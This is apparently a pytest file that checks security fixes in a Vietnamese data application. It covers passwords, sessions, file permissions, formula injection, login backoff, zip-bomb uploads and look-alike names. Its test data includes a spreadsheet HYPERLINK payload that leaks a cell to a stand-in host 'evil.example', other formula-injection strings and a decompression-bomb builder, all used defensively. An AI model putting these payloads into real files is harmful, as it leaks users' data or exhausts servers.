"""The security probe's findings (issue 15, item 5) on the store and the command line.

Each test is one finding, written so it failed before its fix: what the administrator reads
on the terminal, what a stolen cookie still opens, what the files on disk let others read.
Page-side findings (the login form instead of an error, names as text in charts) are in
tests/pages/test_security_pages.py.
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
import shutil
import sqlite3
import stat
import subprocess
import time
import tomllib
import zipfile
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import duckdb
import openpyxl
import pytest

from xeploai import exports, ingest
from xeploai.access import users as users_module
from xeploai.access.users import (
    BACKOFF_START,
    FREE_FAILURES,
    MAX_WAIT,
    AuthError,
    AuthStore,
    auth_path,
)
from xeploai.cli import main
from xeploai.domain.cells import FORMULA_STARTS
from xeploai.domain.selection import Selection
from xeploai.exports.tables import to_csv_bytes, to_xlsx_bytes
from xeploai.ingest import read, spec, validate, workbook
from xeploai.screens import explorer
from xeploai.store.database import Database
from xeploai.texts import IMPORT, IMPORT_HEADERS

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def cli_db(demo_db_path: Path, tmp_path: Path) -> Path:
    path = tmp_path / "cli.duckdb"
    shutil.copy(demo_db_path, path)
    return path


@pytest.fixture
def run(
    cli_db: Path,
    monkeypatch: pytest.MonkeyPatch,
    fast_bcrypt: None,
    capsys: pytest.CaptureFixture[str],
) -> Run:
    """``run("users", "add", …, password=…)``: the command line in this process, as a script."""

    def call(*args: str, password: str = "") -> tuple[int, str, str]:
        monkeypatch.setattr("sys.stdin", io.StringIO(password + "\n"))
        code = main([*args, "--db", str(cli_db)])
        out, err = capsys.readouterr()
        return code, out, err

    return call


# --- 5.9 weak passwords ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("password", "message"),
    [
        ("12345678", "quá phổ biến"),  # long enough, but first on every list
        ("matkhau123", "quá phổ biến"),  # the Vietnamese favourite
        ("aaaaaaaa", "một ký tự lặp lại"),
        ("aaaa AAAA", "một ký tự lặp lại"),  # the same, in two cases and a space
        ("canbo.xa", "trùng tên đăng nhập"),  # the username itself
        ("CANBO.XA", "trùng tên đăng nhập"),  # … in capitals
        ("        ", "chỉ có dấu cách"),  # eight spaces: a user who could never log in
        ("ngan", "ít nhất 8 ký tự"),
        ("đ" * 37, "quá 72 byte"),  # 37 letters, 74 bytes: bcrypt's limit
    ],
)
def test_weak_passwords_are_refused_with_a_vietnamese_reason(
    run: Run, cli_db: Path, password: str, message: str
) -> None:
    code, out, err = run("users", "add", "canbo.xa", "--role", "viewer", password=password)
    assert code == 1 and message in err and "Traceback" not in err + out
    assert AuthStore(auth_path(cli_db)).get("canbo.xa") is None
    # the same policy for a new password
    run("users", "add", "canbo.xa", "--role", "viewer", password="Dong-chi-Ba-2025")
    code, _, err = run("users", "passwd", "canbo.xa", password=password)
    assert code == 1 and message in err
    assert AuthStore(auth_path(cli_db)).verify("canbo.xa", "Dong-chi-Ba-2025")


def test_a_good_password_is_accepted_and_an_overlong_login_is_just_refused(
    tmp_path: Path, fast_bcrypt: None
) -> None:
    store = AuthStore(tmp_path / "a.sqlite")
    store.add_user("canbo", "Mùa xuân 1975", "viewer")  # spaces and diacritics are fine
    assert store.sign_in("canbo", "Mùa xuân 1975")[0] == "ok"
    # a 100-byte password typed in the login form is a wrong password, not a server error
    assert store.sign_in("canbo", "x" * 100)[0] == "failed"


# --- 5.5 editors' scope -------------------------------------------------------------------


@pytest.mark.parametrize("role", ["editor", "admin"])
def test_scoping_an_editor_or_admin_is_refused_and_said_why(
    run: Run, cli_db: Path, role: str
) -> None:
    code, out, err = run(
        "users", "add", "sua.xbd", "--role", role, "--org", "XBD", password="Sua-so-lieu-XBD"
    )
    assert code == 1 and out == ""
    assert "Chỉ tài khoản vai trò viewer" in err and "bỏ --org" in err
    assert AuthStore(auth_path(cli_db)).get("sua.xbd") is None
    # unscoped, the same account is fine, and a scoped viewer still is
    assert run("users", "add", "sua.xbd", "--role", role, password="Sua-so-lieu-XBD")[0] == 0
    code, out, _ = run(
        "users", "add", "bithu.xbd", "--role", "viewer", "--org", "XBD", password="Bi-thu-XBD-2025"
    )
    assert code == 0 and "chỉ xem: XBD" in out


def test_a_scoped_editor_left_from_before_may_read_but_not_write(tmp_path: Path) -> None:
    store = AuthStore(tmp_path / "a.sqlite")
    with pytest.raises(AuthError, match="Chỉ tài khoản vai trò viewer"):
        store.add_user("sua.xbd", "Sua-so-lieu-XBD", "editor", ["XBD"])
    # an account scoped by an older version is in the file as it was
    store.add_user("sua.xbd", "Sua-so-lieu-XBD", "editor")
    with sqlite3.connect(store.path) as conn:
        conn.execute("update users set orgs = '[\"XBD\"]' where username = 'sua.xbd'")
    old = store.get("sua.xbd")
    assert old is not None and old.orgs == ("XBD",)
    assert old.can("view") and old.can("export")
    assert not old.can("import") and not old.can("rules")


# --- 5.1 sessions and secret files ----------------------------------------------------------


def test_passwd_and_remove_on_the_command_line_end_every_session_at_once(
    run: Run, cli_db: Path
) -> None:
    assert run("users", "add", "canbo.xa", "--role", "editor", password="Dong-chi-Ba-2025")[0] == 0
    store = AuthStore(auth_path(cli_db))
    copied = [store.sign_in("canbo.xa", "Dong-chi-Ba-2025")[1] for _ in range(2)]
    assert all(store.session_user(t) is not None for t in copied)
    assert run("users", "passwd", "canbo.xa", password="Mat-khau-moi-2026")[0] == 0
    assert [store.session_user(t) for t in copied] == [None, None]
    _, token = store.sign_in("canbo.xa", "Mat-khau-moi-2026")
    assert store.session_user(token) is not None
    assert run("users", "remove", "canbo.xa")[0] == 0
    assert store.session_user(token) is None
    with sqlite3.connect(store.path) as conn:
        assert conn.execute("select count(*) from sessions").fetchone()[0] == 0


def _others_may_read(path: Path) -> bool:
    return bool(path.stat().st_mode & (stat.S_IRWXG | stat.S_IRWXO))


def test_the_users_and_sessions_file_is_readable_by_its_owner_only(
    run: Run, cli_db: Path, tmp_path: Path
) -> None:
    old = os.umask(0o022)  # the usual umask: files made by default are world-readable
    try:
        assert (
            run("users", "add", "canbo.xa", "--role", "viewer", password="Dong-chi-Ba-2025")[0] == 0
        )
        store = AuthStore(auth_path(cli_db))
        store.sign_in("canbo.xa", "Dong-chi-Ba-2025")
        files = [p for p in store.path.parent.iterdir() if p.name.startswith(store.path.name)]
        assert store.path in files and not [p.name for p in files if _others_may_read(p)]
        # a file an older version left world-readable is closed on the next open
        loose = tmp_path / "loose.auth.sqlite"
        shutil.copy(store.path, loose)
        loose.chmod(0o644)
        AuthStore(loose)
        assert not _others_may_read(loose)
    finally:
        os.umask(old)


# --- 5.3 formula injection ------------------------------------------------------------------

# Names an attacker could import (the probe's HYPERLINK among them); each must reach every
# file as the same text, never as a formula.
EVIL = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")',
    "+SUM(1;2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
)
EVIL_NAMES = set(EVIL)


@pytest.fixture(scope="module")
def evil_db_path(demo_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo with five base organizations renamed to what a spreadsheet would run."""
    path = tmp_path_factory.mktemp("evil") / "evil.duckdb"
    shutil.copy(demo_db_path, path)
    with duckdb.connect(path) as conn:
        # the five weakest of 2024 by members' share good or better: the deck charts them
        codes = [
            code
            for (code,) in conn.execute(
                "select org_code from base_org_rows where year = 2024 and members_evaluated > 0"
                " order by (members_htxsnv + members_httnv) / members_evaluated, org_code"
                " limit 5"
            ).fetchall()
        ]
        for table in ("organizations", "org_spells", "org_years", "base_org_facts"):
            for code, name in zip(codes, EVIL, strict=True):
                conn.execute(f"update {table} set org_name = ? where org_code = ?", [name, code])
    return path


def _formula_cells(book_bytes: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
    return [
        f"{ws.title}!{c.coordinate}={c.value}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _texts(book_bytes: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
    return {
        c.value
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def test_tra_cuu_downloads_keep_formula_like_names_as_text(evil_db_path: Path) -> None:
    with Database(evil_db_path, read_only=True) as db:
        table = explorer.download(db, Selection(from_year=2016, to_year=2024))
    assert len(table) > 1
    book = to_xlsx_bytes(table, "Tra cứu")
    assert _formula_cells(book) == []
    assert _texts(book) >= EVIL_NAMES  # the names as written, nothing else
    text = to_csv_bytes(table).decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
    for name in EVIL:
        assert "'" + name in fields


def test_every_file_the_product_writes_keeps_the_names_as_text(
    evil_db_path: Path, tmp_path: Path
) -> None:
    with Database(evil_db_path, read_only=True) as db:
        table = exports.build("xlsx", db, 2024)
        data = workbook.workbook_bytes(workbook.export_data(db))
        deck = exports.build("pptx", db, 2024)
    # the conference table: its totals are the only formulas, and they are SUMs and IFs
    assert all(f.split("=", 1)[1].startswith(("=SUM(", "=IF(")) for f in _formula_cells(table))
    assert EVIL_NAMES & _texts(table)
    assert _formula_cells(data) == [] and _texts(data) >= EVIL_NAMES
    # the deck's charts carry their data as workbooks ("Edit Data" opens them in Excel)
    with zipfile.ZipFile(io.BytesIO(deck)) as pptx:
        embedded = [pptx.read(n) for n in pptx.namelist() if n.endswith(".xlsx")]
    assert embedded and not [f for b in embedded for f in _formula_cells(b)]
    assert EVIL_NAMES & {t for b in embedded for t in _texts(b)}


# --- 5.2 nobody can lock the admin out --------------------------------------------------------


def test_failures_slow_down_their_source_with_a_doubling_wait_that_ends(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fast_bcrypt: None
) -> None:
    store = AuthStore(tmp_path / "a.sqlite")
    store.add_user("quantri", "Quan-tri-vien-2025", "admin")
    clock = [datetime(2026, 12, 1, 8, 0)]
    monkeypatch.setattr(users_module, "_now", lambda: clock[0])

    def later(**kw: float) -> None:
        clock[0] += timedelta(**kw)

    for _ in range(FREE_FAILURES):
        assert store.sign_in("quantri", "sai", "203.0.113.7") == ("failed", None)
    assert store.wait("203.0.113.7") == BACKOFF_START and store.wait("192.0.2.10") == timedelta(0)
    for _ in range(10):  # tries during the wait: refused unchecked, the wait does not grow
        later(seconds=1)
        assert store.sign_in("quantri", "Quan-tri-vien-2025", "203.0.113.7") == ("locked", None)
    assert store.wait("203.0.113.7") == BACKOFF_START - timedelta(seconds=10)
    later(seconds=20)  # the wait is over: one more failure doubles it
    assert store.sign_in("quantri", "sai", "203.0.113.7") == ("failed", None)
    assert store.wait("203.0.113.7") == 2 * BACKOFF_START
    for _ in range(10):
        later(minutes=16)
        store.sign_in("quantri", "sai", "203.0.113.7")
        assert store.wait("203.0.113.7") <= MAX_WAIT  # never more than 15 minutes
    later(minutes=16)  # a quarter of an hour without failure: forgotten
    assert store.sign_in("quantri", "Quan-tri-vien-2025", "203.0.113.7")[0] == "ok"
    assert store.throttled() == []


def test_an_administrator_lets_a_waiting_address_try_again_at_once(run: Run, cli_db: Path) -> None:
    store = AuthStore(auth_path(cli_db))
    assert run("users", "add", "quantri", "--role", "admin", password="Quan-tri-vien-2025")[0] == 0
    for source in ("203.0.113.7", "192.0.2.10"):
        for _ in range(FREE_FAILURES):
            store.sign_in("quantri", "sai", source)
    assert store.sign_in("quantri", "Quan-tri-vien-2025", "192.0.2.10") == ("locked", None)
    code, out, _ = run("users", "unlock", "--source", "192.0.2.10")
    assert code == 0
    assert "192.0.2.10: 5 lần đăng nhập sai" in out and "Đã cho 1 địa chỉ" in out
    assert store.sign_in("quantri", "Quan-tri-vien-2025", "192.0.2.10")[0] == "ok"
    assert store.wait("203.0.113.7") > timedelta(0)
    code, out, _ = run("users", "unlock")
    assert code == 0 and "203.0.113.7" in out and store.throttled() == []
    assert "Không có địa chỉ nào" in run("users", "unlock")[1]
    assert store.audit_rows(action="login_unlock")


# --- 5.8 expensive uploads --------------------------------------------------------------------


def _workbook_with_sheet(sheet_xml: bytes) -> bytes:
    """A minimal .xlsx whose one worksheet part is ``sheet_xml``, deflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return buffer.getvalue()


def test_a_workbook_that_inflates_far_beyond_its_size_is_refused_at_once(
    demo_db_path: Path,
) -> None:
    # the probe's file: 0,7 MB inflating to 190 MB took 20,6 s and 2,48 GB to parse
    bomb = _workbook_with_sheet(
        b"<worksheet><sheetData>" + b"<row/>" * 16_000_000 + b"</sheetData></worksheet>"
    )
    assert len(bomb) < 1024 * 1024
    started = time.perf_counter()
    with Database(demo_db_path, read_only=True) as db:
        result = ingest.preview(db, [ingest.Source("bom.xlsx", bomb)])
    assert time.perf_counter() - started < 5
    assert result.refused and result.batch is None
    [problem] = result.problems
    assert "giải nén ra quá lớn" in problem.message and "chia thành nhiều tệp" in problem.message


def test_the_inflated_size_is_bounded_whatever_the_ratio(
    demo_db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # random cells compress poorly (a real ratio), yet a total over the bound is refused
    monkeypatch.setattr(spec, "MAX_UNZIPPED_BYTES", 2 * 1024 * 1024)
    cells = b"".join(
        b"<c><v>%d</v></c>" % n for n in random.Random(5).choices(range(10**9), k=150_000)
    )
    workbook = _workbook_with_sheet(
        b"<worksheet><sheetData><row>" + cells + b"</row></sheetData></worksheet>"
    )
    with Database(demo_db_path, read_only=True) as db:
        result = ingest.preview(db, [ingest.Source("lon.xlsx", workbook)])
    assert [p.message for p in result.problems if "trên 2 MB" in p.message]


def test_a_workbook_whose_directory_understates_a_part_is_refused(demo_db_path: Path) -> None:
    # the central directory says the worksheet inflates to 1.000 bytes, and it inflates to
    # 12 MB: the file is refused as not a workbook, before any of it is read
    data = bytearray(
        _workbook_with_sheet(
            b"<worksheet><sheetData>" + b"<row/>" * 2_000_000 + b"</sheetData></worksheet>"
        )
    )
    entries = []
    at = data.find(b"PK\x01\x02")  # each entry of the central directory
    while at != -1:
        length = int.from_bytes(data[at + 28 : at + 30], "little")
        if data[at + 46 : at + 46 + length] == b"xl/worksheets/sheet1.xml":
            data[at + 24 : at + 28] = (1000).to_bytes(4, "little")  # its size once inflated
            entries.append(at)
        at = data.find(b"PK\x01\x02", at + 4)
    assert len(entries) == 1
    with Database(demo_db_path, read_only=True) as db:
        result = ingest.preview(db, [ingest.Source("lech.xlsx", bytes(data))])
    assert [p.message for p in result.problems] == [IMPORT["file_not_xlsx"]]


def test_large_uploads_are_read_in_a_worker_process_with_the_same_result(
    demo_db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with Database(demo_db_path, read_only=True) as db:
        exported = workbook.workbook_bytes(workbook.export_data(db, [2024]))
        here = ingest.preview(db, [ingest.Source("nam-2024.xlsx", exported)])
        monkeypatch.setattr(spec, "ISOLATE_ABOVE_BYTES", 0)
        calls: list[int] = []
        real = read._read_isolated

        def isolated(sources: list[ingest.Source]) -> read.Read:
            calls.append(len(sources))
            return real(sources)

        monkeypatch.setattr(read, "_read_isolated", isolated)
        there = ingest.preview(db, [ingest.Source("nam-2024.xlsx", exported)])
    assert calls == [1]  # read by a worker interpreter (python -m xeploai.ingest.read_worker)
    assert not here.refused and not there.refused and here.batch and there.batch
    assert here.batch.summary_text() == there.batch.summary_text()
    # the server refuses a bigger upload before any of this (.streamlit/config.toml)
    config = tomllib.loads(
        (Path(__file__).parents[2] / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    )
    # (a workbook between the two refused by the reader, in Vietnamese; a .zip read up to it)
    assert spec.MAX_FILE_BYTES < config["server"]["maxUploadSize"] * 2**20 <= spec.MAX_ZIP_BYTES
    # and nginx lets it through, for the app to refuse a larger one in its own words
    nginx = (Path(__file__).parents[2] / "deploy" / "nginx" / "xeploai.conf").read_text()
    [body] = re.findall(r"client_max_body_size (\d+)m;", nginx)
    assert int(body) > config["server"]["maxUploadSize"]


def test_several_large_uploads_are_read_by_workers_in_parallel_as_one_process_reads_them(
    demo_db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with Database(demo_db_path, read_only=True) as db:
        data = workbook.export_data(db, [2024])
    catalogue = {k: v for k, v in data.items() if k in ("organizations", "lineage")}
    yearly = {k: v for k, v in data.items() if k not in catalogue}

    def book(sheets: dict[str, list[dict[str, object]]]) -> bytes:
        return workbook.workbook_bytes(sheets)

    files = [
        ingest.Source("danh-muc.xlsx", book(catalogue)),
        ingest.Source("nam-2024.xlsx", book(yearly)),
        ingest.Source("nam-2024-lan-2.xlsx", book(yearly)),  # its rows repeat: refused
        ingest.Source("ghi-chu.txt", b"?"),
    ]
    runs = read._runs(files, 2)
    assert [[s.name for s in run] for run in runs] == [
        ["danh-muc.xlsx", "nam-2024.xlsx"],
        ["nam-2024-lan-2.xlsx", "ghi-chu.txt"],
    ]
    monkeypatch.setattr(os, "cpu_count", lambda: 2)
    here = read._read_sources(files)
    there = read._read_isolated(files)  # two worker interpreters, one run of files each
    assert [(s.file, s.key) for s in there[0]] == [(s.file, s.key) for s in here[0]]
    assert [(s.numbers, s.columns, s.headers) for s in there[0]] == [
        (s.numbers, s.columns, s.headers) for s in here[0]
    ]
    assert there[1] == here[1] and there[2] == here[2]
    assert [p.file for p in there[1]] == ["ghi-chu.txt"]
    with Database(demo_db_path, read_only=True) as db:
        in_process = ingest.preview(db, files[:3])
        monkeypatch.setattr(spec, "ISOLATE_ABOVE_BYTES", 0)
        by_workers = ingest.preview(db, files[:3])
    # the second yearly file repeats the first one's rows: the same refusal, row for row
    assert in_process.problems and by_workers.problems == in_process.problems
    assert {p.file for p in by_workers.problems} == {"nam-2024-lan-2.xlsx"}


def test_a_worker_that_dies_refuses_its_files_and_nothing_else_is_read(
    demo_db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a worker killed (out of memory) answers nothing: the files of its run are refused with
    # the error it left, the other run's answer is not used, and nothing is half read
    with Database(demo_db_path, read_only=True) as db:
        data = workbook.workbook_bytes(workbook.export_data(db, [2024]))
    files = [ingest.Source("mot.xlsx", data), ingest.Source("hai.xlsx", data)]
    monkeypatch.setattr(os, "cpu_count", lambda: 2)
    real = subprocess.run

    def second_dies(args: list[str], **kwargs: Any) -> subprocess.CompletedProcess[bytes]:
        done = real(args, **kwargs)
        if b"hai.xlsx" in kwargs["input"]:
            return subprocess.CompletedProcess(args, -9, b"", b"MemoryError\n")
        return done

    monkeypatch.setattr(subprocess, "run", second_dies)
    sheets, problems, notes = read._read_isolated(files)
    assert (sheets, notes) == ([], [])
    assert [(p.message, p.file) for p in problems] == [
        (IMPORT["file_unreadable"].format(error="MemoryError"), "hai.xlsx")
    ]


def test_a_worker_sends_the_cells_as_read_packed_and_a_refusal_still_quotes_them(
    demo_db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The parsed values are what the checks read; the cells as written stay packed in the
    server (``read.PackedColumns``) until a message quotes one, and the message is the same
    as when the file is read in the server's own process."""
    with Database(demo_db_path, read_only=True) as db:
        data = workbook.export_data(db, [2024])
    good = workbook.workbook_bytes(data)
    row = data["results"][0]
    written = f"{int(row['members_evaluated']) + 1},0"  # a count as text: read, then wrong
    bad = workbook.workbook_bytes({**data, "results": [{**row, "members_evaluated": written}]})
    read_by_workers: list[list[read.SheetData]] = []
    real = read._read_isolated

    def isolated(sources: list[ingest.Source]) -> read.Read:
        out = real(sources)
        read_by_workers.append(out[0])
        return out

    with Database(demo_db_path, read_only=True) as db:
        in_process = ingest.preview(db, [ingest.Source("nam-2024.xlsx", bad)])
        monkeypatch.setattr(spec, "ISOLATE_ABOVE_BYTES", 0)
        monkeypatch.setattr(read, "_read_isolated", isolated)
        accepted = ingest.preview(db, [ingest.Source("nam-2024.xlsx", good)])
        refused = ingest.preview(db, [ingest.Source("nam-2024.xlsx", bad)])
    assert not accepted.refused and accepted.batch is not None
    [sheets_of_good, sheets_of_bad] = read_by_workers
    packed = [s.columns for s in sheets_of_good if isinstance(s.columns, read.PackedColumns)]
    assert sheets_of_good and len(packed) == len(sheets_of_good)
    # a file the checks accept: not one column of cells unpacked in the server
    assert [p.opened() for p in packed] == [[] for _ in packed]
    # refused: the same problems, the cell quoted as written, only its column unpacked
    assert refused.problems == in_process.problems
    assert [(p.column, p.value) for p in refused.problems] == [
        (IMPORT_HEADERS["results"]["members_evaluated"], written)
    ]
    opened = {
        (s.key, column)
        for s in sheets_of_bad
        if isinstance(s.columns, read.PackedColumns)
        for column in s.columns.opened()
    }
    assert opened == {("results", "members_evaluated")}


# --- 5.10 small ones ----------------------------------------------------------------------------


def test_a_file_that_cannot_be_made_at_its_press_is_said_in_vietnamese() -> None:
    """A download made when pressed that fails: Streamlit answers "Failed to generate file for
    download", shown under the button; the server says the cause's own words when the product
    wrote them for the user, else what to do (the browser test of a large import shows it)."""
    from streamlit.proto.BackMsg_pb2 import BackendOperationRequest
    from streamlit.runtime.backend_operation_handler import DeferredFileHandler
    from streamlit.runtime.media_file_manager import MediaFileManager
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    import server  # the server's start applies it
    from tests.loops import run_alone
    from xeploai.store.generations import WriteFailed
    from xeploai.texts import UI

    assert server.app is not None
    files = MediaFileManager(MemoryMediaFileStorage("/media"))
    handler = DeferredFileHandler(lambda: files)

    def said(make: Any, file_id: str | None = None) -> tuple[str, str]:
        wanted = file_id or files.add_deferred(make, "text/csv", "coordinates", "danh-sach.csv")
        request = BackendOperationRequest(request_id="r")
        request.deferred_file.file_id = wanted
        answer = run_alone(handler.handle(request, "session"))
        return answer.error_msg, answer.deferred_file.url

    def refused() -> bytes:
        raise WriteFailed("Tiến trình nhập dữ liệu đã dừng giữa chừng (tín hiệu 9 của hệ thống).")

    def broken() -> bytes:
        raise KeyError("org_code")

    assert said(refused) == (
        "Tiến trình nhập dữ liệu đã dừng giữa chừng (tín hiệu 9 của hệ thống).",
        "",
    )
    assert said(broken) == (UI["download_failed"], "")  # no internals shown
    assert said(None, "no-such-file") == (UI["download_failed"], "")  # a press after a rerun
    error, url = said(lambda: b"ma,ten\n")  # a file made: its address, no error
    assert error == "" and url.startswith("/media/")


def test_a_clients_clear_cache_message_is_dropped_by_the_server() -> None:
    import streamlit as st
    from streamlit.proto.BackMsg_pb2 import BackMsg
    from streamlit.runtime.app_session import AppSession

    import server  # the server's start applies the guard
    from hardening import clear_cache_refused

    assert server.app is not None and clear_cache_refused()
    computed: list[int] = []

    @st.cache_data(show_spinner=False)
    def year_summary_stand_in(year: int) -> int:
        computed.append(year)
        return year

    year_summary_stand_in(2024)
    # what an anonymous websocket client sends, as its session receives it (a stand-in for
    # the session: the handler only needs its own state)
    session = SimpleNamespace(_session_state={})
    session._handle_clear_cache_request = lambda: AppSession._handle_clear_cache_request(session)  # type: ignore[arg-type]
    AppSession.handle_backmsg(session, BackMsg(clear_cache=True))  # type: ignore[arg-type]
    year_summary_stand_in(2024)
    assert computed == [2024]  # still cached: nobody's pages were slowed down


def _preview_csv(db_path: Path, tmp_path: Path, name: str, text: str) -> ingest.Preview:
    (tmp_path / name).write_text(text, encoding="utf-8")
    sources, problems = ingest.sources_from_paths([tmp_path / name])
    assert problems == []
    with Database(db_path, read_only=True) as db:
        return ingest.preview(db, sources)


@pytest.mark.parametrize(
    "name",
    [
        "Đảng bộ xã Bà\u200b Điểm",  # a zero-width space, the probe's
        "\ufeffĐảng bộ xã Bà Điểm",  # a byte-order mark in front
        "Đảng bộ xã Bà  Điểm\u00a0",  # two spaces, a non-breaking one at the end
        "ĐẢNG BỘ XÃ BÀ ĐIỂM",  # capitals
        "Đảng bộ xã Ba\u0300 Điê\u0309m",  # decomposed accents (NFD)
    ],
)
def test_a_look_alike_second_organization_is_refused(
    demo_db_path: Path, tmp_path: Path, name: str
) -> None:
    result = _preview_csv(
        demo_db_path,
        tmp_path,
        "organizations.csv",
        f"org_code,org_name,org_type,sector,ended\nXBD2,{name},base_committee,commune,2025-06-30\n",
    )
    assert result.refused
    [problem] = [p for p in result.problems if p.column == "org_name" or "XBD" in p.message]
    assert "XBD “Đảng bộ xã Bà Điểm”" in problem.message and problem.row == 2
    assert "ký tự vô hình" in problem.message


def test_only_the_names_under_the_files_superiors_are_folded(
    demo_db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a national catalogue is 408.696 names, 1,7 s to fold: the check folds those that share a
    # superior with the file's organizations, and a form's status folds none
    folded: list[str] = []

    def counted(text: str) -> str:
        folded.append(text)
        return spec.lookalike(text)

    monkeypatch.setattr(validate, "lookalike", counted)
    result = _preview_csv(
        demo_db_path,
        tmp_path,
        "organizations.csv",
        "org_code,org_name,org_type,sector,ended\n"
        "XBD2,ĐẢNG BỘ XÃ BÀ ĐIỂM,base_committee,commune,2025-06-30\n",
    )
    assert result.refused and "XBD “Đảng bộ xã Bà Điểm”" in result.problems[0].message
    with Database(demo_db_path, read_only=True) as db:
        [(under, everyone)] = db.conn.execute(
            "select count(*) filter (where parent_code = (select value from meta"
            " where key = 'superior_code')), count(*) from organizations"
        ).fetchall()
    assert len(folded) == under + 1 < everyone  # the own superior's, and the file's one
    folded.clear()
    _preview_csv(
        demo_db_path,
        tmp_path,
        "statuses.csv",
        "year,org_code,status\n2026,XBD-AP3,Chưa đánh giá\n",
    )
    assert folded == []


def test_names_are_stored_clean_and_a_distinct_name_is_accepted(
    demo_db_path: Path, tmp_path: Path
) -> None:
    result = _preview_csv(
        demo_db_path,
        tmp_path,
        "organizations.csv",
        "org_code,org_name,org_type,sector,ended\n"
        "XTH2,Chi bộ\u200b  ấp Tân\u00a0Hòa,base_cell,commune,2025-06-30\n"
        "XTH3,Chi bộ ấp Tân Hóa,base_cell,commune,2025-06-30\n",
    )
    assert not result.refused, [p.message for p in result.problems]
    assert result.batch is not None
    names = {
        c.key[0]: c.new["org_name"] for c in result.batch.changes if c.table == "organizations"
    }
    assert names == {"XTH2": "Chi bộ ấp Tân Hòa", "XTH3": "Chi bộ ấp Tân Hóa"}


def test_a_workbook_with_external_links_imports_its_stored_values_with_a_warning(
    demo_db_path: Path, run: Run, cli_db: Path, tmp_path: Path
) -> None:
    with Database(demo_db_path, read_only=True) as db:
        exported = workbook.workbook_bytes(workbook.export_data(db, [2024]))
    linked = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(exported)) as source,
        zipfile.ZipFile(linked, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item, source.read(item))
        # what Excel writes for a formula such as ='[tong-hop.xlsx]Sheet1'!A1
        target.writestr(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><externalBook/></externalLink>',
        )
        target.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<Relationships><Relationship Target="file:///C:/tong-hop.xlsx"/></Relationships>',
        )
    path = tmp_path / "nam-2024.xlsx"
    path.write_bytes(linked.getvalue())
    with Database(demo_db_path, read_only=True) as db:
        result = ingest.preview(db, [ingest.Source(path.name, path.read_bytes())])
    assert not result.refused and result.batch is not None
    assert [n for n in result.batch.notes if "1 liên kết tới tệp khác" in n]
    code, _, err = run("import", str(path), "--dry-run")
    assert code == 0 and "Cảnh báo: bảng tính “nam-2024.xlsx” có 1 liên kết" in err
